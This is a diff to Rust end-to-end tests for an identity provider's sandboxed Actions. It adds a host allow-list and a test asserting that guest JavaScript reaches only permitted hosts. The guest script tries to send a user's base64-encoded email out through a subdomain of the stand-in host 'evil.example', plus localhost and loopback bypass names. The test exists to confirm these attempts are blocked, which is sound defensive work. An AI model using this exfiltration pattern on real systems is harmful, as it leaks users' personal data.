@@ -12,6 +12,7 @@ use end_to_end::gate::Gate;
 use end_to_end::node::Node;
 use end_to_end::{Login, TestServer, actions, seed};
 use idp::manage;
+use model::AllowedHosts;
 use postern::executor::Places;
 use serde_json::{Value, json};
 
@@ -118,7 +119,7 @@ async fn no_run_sees_what_the_run_before_it_left_in_javascript() {
     );
     let secrets = BTreeMap::from([("KEY".to_owned(), CANARY.to_owned())]);
     let artifact = build(&script(&code), scene.idp.limits).await.expect("it builds");
-    manage::deploy_action(&scene.idp, &scene.acme(), "guest", &actions::kept(""), &artifact, &secrets)
+    manage::deploy_action(&scene.idp, &scene.acme(), "guest", &actions::kept(""), &artifact, &secrets, None)
         .await
         .expect("a deploy");
     let browser = scene.browser();
@@ -189,9 +190,17 @@ async fn a_secret_is_in_no_image_and_not_in_the_database() {
     let secrets = BTreeMap::from([("KEY".to_owned(), CANARY.to_owned())]);
     let holds = |bytes: &[u8]| bytes.windows(CANARY.len()).any(|window| window == CANARY.as_bytes());
     for _ in 0..2 {
-        manage::deploy_action(&scene.idp, &scene.acme(), "guest", &actions::kept(code), &artifact, &secrets)
-            .await
-            .expect("a deploy");
+        manage::deploy_action(
+            &scene.idp,
+            &scene.acme(),
+            "guest",
+            &actions::kept(code),
+            &artifact,
+            &secrets,
+            None,
+        )
+        .await
+        .expect("a deploy");
         code_of(&scene.log_in_again().await.0);
     }
     let length = json!([null, CANARY.len()]);
@@ -354,6 +363,37 @@ async fn the_network_is_no_way_out_beyond_the_runs_budget() {
         console.log(told.join())";
     let told = &scene.harmless(&handler(names)).await.console[0].text;
     assert_eq!(told, &["TypeError"; 6].join(","));
+
+    // An Action with a list of hosts reaches these alone, also by a redirect, and no name of another is looked up: a name is
+    // refused as fast as the list is read.
+    let host = reqwest::Url::parse(&gate.url).unwrap().host_str().unwrap().to_owned();
+    let list = AllowedHosts::Only(vec![host, "*.partner.example".to_owned()]);
+    let told = format!(
+        "const told = [];
+        for (const url of ['{}', 'http://' + btoa(event.user.email).replace('=', '') + '.evil.example/', 'http://partner.example/',
+            'http://localhost.evil.example/', 'http://127.0.0.1.nip.example/'])
+            try {{ await fetch(url); told.push('reached') }} catch (error) {{ told.push(error.cause?.message ?? error.message) }}
+        console.log(told.join('|'))",
+        gate.url
+    );
+    let guest = handler(&told);
+    let artifact = build(&guest, scene.idp.limits).await.expect("it builds");
+    let (tenant, none) = (scene.acme(), BTreeMap::new());
+    let source = actions::kept("");
+    manage::deploy_action(&scene.idp, &tenant, "guest", &source, &artifact, &none, Some(&list))
+        .await
+        .expect("a deploy");
+    for _ in 0..2 {
+        let (answer, report) = scene.log_in_again().await;
+        code_of(&answer);
+        let told: Vec<&str> = report.console[0].text.split('|').collect();
+        assert_eq!(told[0], "reached", "{told:?}");
+        assert!(told[1..].iter().all(|text| text.contains("is not among the hosts")), "{told:?}");
+        // The next deploy keeps the list.
+        manage::deploy_action(&scene.idp, &tenant, "guest", &source, &artifact, &none, None)
+            .await
+            .expect("a deploy");
+    }
     scene.end().await;
 }
 
